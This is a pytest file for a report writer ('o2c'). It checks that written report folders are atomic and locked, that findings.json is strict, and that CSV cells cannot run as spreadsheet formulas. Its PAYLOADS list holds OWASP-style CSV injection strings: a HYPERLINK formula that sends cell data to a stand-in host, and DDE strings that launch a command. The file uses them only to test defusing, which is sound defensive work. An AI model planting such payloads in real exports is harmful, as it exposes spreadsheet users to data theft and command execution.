"""A report folder is written whole or not at all; its CSV cells never run in a spreadsheet;
findings.json is strict JSON; the command fails with one line and the right exit code."""

from __future__ import annotations

import csv
import errno
import json
import os
import subprocess
import sys
from pathlib import Path

import polars as pl
import pytest

from o2c import example_log
from o2c._assess import Assessment, assess
from o2c._write import FORMULA_STARTS, replacing_folder
from o2c.cli import main
from o2c.errors import OutputFolderError
from o2c.io import read_log
from o2c.report import _findings, _write, write_report

#: Texts a hostile export may carry into activity names and attributes (OWASP's examples).
PAYLOADS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")", "=cmd|' /C calc'!A0", "+SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1"]  # fmt: skip


def _files(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


@pytest.fixture(scope="module")
def hostile() -> Assessment:
    log = example_log().with_columns(
        activity=pl.when(pl.col("activity").cast(pl.String) == "Check Credit")
        .then(pl.lit(PAYLOADS[0]))
        .otherwise(pl.col("activity").cast(pl.String)),
        region=pl.Series([PAYLOADS[i % len(PAYLOADS)] for i in range(example_log().height)]),
        resource=pl.lit(PAYLOADS[1]),
    )
    return assess(read_log(log), progress=False)


@pytest.fixture(scope="module")
def hostile_report(hostile: Assessment, tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("hostile") / "report"
    write_report(hostile, out)
    return out


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_no_csv_cell_starts_a_formula(hostile_report: Path) -> None:
    """Read back with the csv module: no text cell (nor column name) starts with = + - @ tab CR."""
    tables = [*sorted((hostile_report / "tables").glob("*.csv")), hostile_report / "rejects.csv"]
    seen_payload = 0
    for table in tables:
        with table.open(encoding="utf-8", newline="") as file:
            for row in csv.reader(file):
                for cell in row:
                    assert not (cell.startswith(FORMULA_STARTS) and not _is_number(cell)), (table.name, cell)
                    seen_payload += cell.lstrip("'") in PAYLOADS and cell.startswith("'")
    assert seen_payload > 0  # the payloads reached the tables, defused


def test_findings_json_keeps_the_values_exact(hostile_report: Path) -> None:
    text = (hostile_report / "findings.json").read_text(encoding="utf-8")
    assert json.dumps(PAYLOADS[0], ensure_ascii=False) in text
    assert json.dumps("'" + PAYLOADS[0], ensure_ascii=False) not in text


def test_findings_json_is_strict(hostile_report: Path) -> None:
    def refuse(constant: str) -> None:
        raise AssertionError(f"findings.json holds {constant}")

    json.loads((hostile_report / "findings.json").read_text(encoding="utf-8"), parse_constant=refuse)


def test_plain_turns_infinities_into_null() -> None:
    assert _findings._plain(float("inf")) is None and _findings._plain(float("-inf")) is None
    assert _findings._plain(float("nan")) is None and _findings._plain(1.5) == 1.5


def test_the_report_says_its_tables_are_made_spreadsheet_safe(hostile_report: Path) -> None:
    assert (
        "so that a spreadsheet shows it instead of evaluating it"
        in (hostile_report / "report.html").read_text()
    )


@pytest.fixture
def previous(hostile: Assessment, tmp_path: Path) -> tuple[Path, dict[str, bytes]]:
    """A report folder from an earlier run, and its bytes."""
    out = tmp_path / "out"
    write_report(hostile, out)
    return out, _files(out)


@pytest.mark.parametrize("failure", [KeyboardInterrupt(), OSError(errno.ENOSPC, "No space left on device")])
def test_a_failed_or_interrupted_write_leaves_the_previous_report(
    hostile: Assessment, previous: tuple[Path, dict[str, bytes]], monkeypatch: pytest.MonkeyPatch,
    failure: BaseException,
) -> None:  # fmt: skip
    out, before = previous

    def fail(*args: object, **kwargs: object) -> None:
        raise failure

    monkeypatch.setattr(_write, "html_page", fail)
    expected = KeyboardInterrupt if isinstance(failure, KeyboardInterrupt) else OutputFolderError
    with pytest.raises(expected):
        write_report(hostile, out)
    assert _files(out) == before
    assert sorted(p.name for p in out.parent.iterdir()) == ["out"]  # no staging folder, no lock


def test_a_second_write_replaces_the_folder_whole(hostile: Assessment, previous: tuple[Path, dict]) -> None:
    out, before = previous
    (out / "tables" / "from_an_older_version.csv").write_text("x\n")
    written = write_report(hostile, out)
    assert sorted(str(p.relative_to(out)) for p in written) == sorted(before)
    assert _files(out) == before


def test_a_folder_with_other_files_is_refused_and_left_alone(hostile: Assessment, tmp_path: Path) -> None:
    (tmp_path / "thesis.docx").write_text("months of work")
    with pytest.raises(OutputFolderError, match="not an o2c report") as error:
        write_report(hostile, tmp_path)
    assert error.value.path == str(tmp_path)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["thesis.docx"]


def test_a_file_as_the_folder_is_refused(hostile: Assessment, tmp_path: Path) -> None:
    (tmp_path / "out").write_text("a file")
    with pytest.raises(OutputFolderError, match="is a file"):
        write_report(hostile, tmp_path / "out")
    with pytest.raises(OutputFolderError, match="is a file"):
        write_report(hostile, tmp_path / "out" / "report")


def test_a_running_writer_holds_the_folder(tmp_path: Path) -> None:
    target = tmp_path / "report"
    with replacing_folder(target) as staging:
        (staging / "findings.json").write_text("{}")
        with pytest.raises(OutputFolderError, match=f"process {os.getpid()}"), replacing_folder(target):
            pass
    assert (target / "findings.json").read_text() == "{}"


def test_a_lock_left_by_a_killed_run_is_taken_over(tmp_path: Path) -> None:
    gone = subprocess.run(
        [sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True
    )
    (tmp_path / ".report.lock").write_text(gone.stdout.strip())
    with replacing_folder(tmp_path / "report") as staging:
        (staging / "findings.json").write_text("{}")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report"]


# --- the command -------------------------------------------------------------------------------


def test_out_on_a_file_fails_before_the_log_is_read(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "out").write_text("a file")
    monkeypatch.setattr("o2c._cli_assess.load", lambda args: pytest.fail("the log was read first"))
    assert main(["assess", "no-such-file.csv", "--out", str(tmp_path / "out")]) == 1
    assert capsys.readouterr().err.splitlines() == [
        f"error: {tmp_path / 'out'} is a file, not a folder; give --out a folder."
    ]


def test_ctrl_c_exits_130_with_one_line_and_the_previous_report(
    example_csv: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "out"
    assert main(["assess", str(example_csv), "--out", str(out), "--no-progress"]) == 0
    before = _files(out)
    capsys.readouterr()

    def interrupt(*args: object, **kwargs: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(_write, "html_page", interrupt)
    assert main(["assess", str(example_csv), "--out", str(out), "--no-progress"]) == 130
    printed = capsys.readouterr()
    assert printed.out == "" and printed.err.splitlines() == [
        "interrupted; a report folder being written was left as it was"
    ]
    assert _files(out) == before


def test_an_unforeseen_failure_is_one_message_without_traceback(
    example_csv: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken(*args: object, **kwargs: object) -> None:
        raise RuntimeError("something deep broke")

    monkeypatch.setattr("o2c._cli_assess.assess", broken)
    assert main(["assess", str(example_csv), "--out", str(tmp_path / "out")]) == 1
    err = capsys.readouterr().err
    assert err.startswith("error: RuntimeError: something deep broke\n") and "Traceback" not in err
    with pytest.raises(RuntimeError):
        main(["assess", str(example_csv), "--out", str(tmp_path / "out"), "--debug"])


def test_only_the_cells_a_spreadsheet_would_evaluate_change() -> None:
    """Cell by cell, not row by row: a safe text beside a formula stays as it is; numbers are numbers."""
    import pandas as pd

    frame = pd.DataFrame({"=a": ["=x", "ok", None], "b": ["ok", "@y", "-"], "n": [1, -2, 3]})
    assert _write._csv(frame) == "'=a,b,n\n'=x,ok,1\nok,'@y,-2\n,'-,3\n"
